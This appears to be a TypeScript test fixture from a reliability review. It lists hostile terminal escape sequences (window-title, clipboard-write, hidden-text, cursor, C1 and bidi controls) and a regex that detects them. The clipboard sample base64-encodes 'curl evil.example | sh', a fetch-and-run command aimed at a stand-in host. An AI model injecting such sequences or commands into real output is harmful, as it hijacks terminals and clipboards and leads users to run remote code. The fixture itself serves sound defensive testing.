// The reliability review's hostile pack strings (finding 10), shared by the tests of every output
// path that shows pack text.

/** One sample per kind of control a terminal obeys. */
export const HOSTILE = {
  /** OSC 0: sets the window title. */
  title: '\u001b]0;PWNED-BY-STATEMENT\u0007',
  /** OSC 52: writes the clipboard (base64 of "curl evil.example | sh"). */
  clipboard: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  /** SGR 8: hides what follows. */
  hidden: 'visible \u001b[8mhidden\u001b[0m',
  /** CSI cursor moves and line erase. */
  cursor: 'a\u001b[2Ab\u001b[10;1Hc\u001b[2K',
  /** C1 controls: CSI, NEL, OSC, ST as single code points. */
  c1: 'x\u009b31mred\u0085next\u009d0;t\u009c',
  /** Bidi override and isolate: the reader sees text reordered. */
  bidi: 'abc\u202edcba\u202c \u2066iso\u2069',
} as const;

/** Every hostile sample in one string. */
export const ALL_HOSTILE = Object.values(HOSTILE).join(' ');

/** Any code point a terminal could act on (tab and newline aside): none may reach the output. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point here
export const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
